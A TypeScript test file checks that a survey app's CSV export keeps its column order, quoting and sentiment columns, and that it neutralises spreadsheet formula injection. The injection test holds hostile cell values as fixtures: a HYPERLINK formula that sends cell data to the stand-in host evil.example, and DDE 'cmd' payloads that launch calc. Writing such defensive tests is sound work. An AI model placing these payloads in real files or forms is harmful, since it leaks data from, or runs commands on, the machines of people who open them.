import type { Question, StoredResponse } from "@parley/schema";
import { describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { csvChunks, exportColumns, knownAnswerIds } from "./exports.ts";

async function* once<T>(value: T) {
  yield value;
}

async function csvOf(questions: Question[], rows: StoredResponse[], orphans: { id: string; question: string }[] = []) {
  let text = "";
  for await (const chunk of csvChunks(exportColumns(questions, orphans), once(rows))) text += chunk;
  return text;
}

const questions: Question[] = [
  { id: 1, question: "Pick one, please", type: "radio", options: [{ key: 0, value: "A" }] },
  { id: 2, question: "Why?", type: "open-ended", requiresPrompt: true },
];

describe("exports", () => {
  it("keeps the CSV's earlier columns first, then status, the sentiment of each open answer, started and finished times", async () => {
    const rows: StoredResponse[] = [
      {
        id: "r1",
        createdAt: "2026-01-02T03:04:05.000Z",
        status: "completed",
        completedAt: "2026-01-02T03:10:00.000Z",
        responses: [
          { id: "1", question: "Pick one, please", type: "radio", answer: "A", isFollowUp: false },
          {
            id: "2",
            question: "Why?",
            type: "open-ended",
            answer: 'I love it, "just" works,\nmostly',
            isFollowUp: false,
          },
          {
            id: "2.1",
            question: "What works best?",
            type: "open-ended",
            answer: "The awful waiting times",
            isFollowUp: true,
          },
          { id: "9", question: "Removed question", type: "open-ended", answer: "=HYPERLINK(1)", isFollowUp: false },
        ],
      },
      { id: "r2", createdAt: "2026-01-03T00:00:00.000Z", responses: [], status: "partial", completedAt: null },
    ];
    const csv = await csvOf(questions, rows, [{ id: "9", question: "Removed question" }]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      'Created at,"Pick one, please",Why?,Why? (follow-up 1 question),Why? (follow-up 1 answer),Why? (follow-up 2 question),Why? (follow-up 2 answer),Removed question,Status,Why? (sentiment),Why? (follow-up 1 sentiment),Why? (follow-up 2 sentiment),Started at,Finished at',
    );
    expect(lines[1]).toBe(
      `2026-01-02T03:04:05.000Z,A,"I love it, ""just"" works,\nmostly",What works best?,The awful waiting times,,,'=HYPERLINK(1),Completed,positive,negative,,2026-01-02T03:04:05.000Z,2026-01-02T03:10:00.000Z`,
    );
    expect(lines[2]).toBe("2026-01-03T00:00:00.000Z,,,,,,,,Partial,,,,2026-01-03T00:00:00.000Z,");
    expect(lines[3]).toBe("");
  });

  it("knows the ids it has columns for", () => {
    expect(knownAnswerIds(questions)).toEqual(["1", "2", "2.1", "2.2"]);
  });

  it("holds no formula when a spreadsheet opens the CSV: questions, options and answers starting with = + - @, tab or CR are text", async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
    ];
    const hostileQuestions: Question[] = hostile.map((text, i) => ({
      id: i + 1,
      question: text,
      type: "radio",
      options: [{ key: 0, value: text }],
    }));
    const rows: StoredResponse[] = [
      {
        id: "r1",
        createdAt: "2026-01-02T03:04:05.000Z",
        status: "completed",
        completedAt: "2026-01-02T03:10:00.000Z",
        responses: hostile.map((text, i) => ({
          id: String(i + 1),
          question: text,
          type: "radio",
          answer: text,
          isFollowUp: false,
        })),
      },
      {
        id: "r2",
        createdAt: "2026-01-03T00:00:00.000Z",
        responses: [{ id: "7", question: "Rate it", type: "slider", answer: "-3", isFollowUp: false }],
      },
    ];
    const book = XLSX.read(await csvOf(hostileQuestions, rows, [{ id: "7", question: "Rate it" }]), { type: "string" });
    const sheet = book.Sheets[book.SheetNames[0] ?? ""];
    if (!sheet) throw new Error("no sheet");
    for (const [address, cell] of Object.entries(sheet)) {
      if (!address.startsWith("!")) expect((cell as { f?: string }).f, address).toBeUndefined();
    }
    const cells = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: "" });
    const expected = hostile.map((text) => `'${text}`);
    expect(cells[0]?.slice(1, 7)).toEqual(expected);
    expect(cells[1]?.slice(1, 7)).toEqual(expected);
    // A slider answer stays a number.
    expect(sheet.H3).toMatchObject({ t: "n", v: -3 });
  });
});
